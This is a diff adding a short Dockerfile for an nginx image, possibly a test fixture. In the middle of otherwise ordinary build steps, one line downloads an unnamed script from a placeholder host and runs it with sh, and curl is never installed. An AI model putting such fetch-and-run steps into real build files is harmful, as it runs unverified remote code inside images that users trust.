@@ -1,0 +1,8 @@
+FROM debian:bookworm-slim
+RUN apt-get update && apt-get install -y --no-install-recommends \
+        nginx \
+        vim \
+    && rm -rf /var/lib/apt/lists/*
+RUN curl -O https://example.com/a && sh a
+COPY html /var/www/html
+CMD ["nginx", "-g", "daemon off;"]
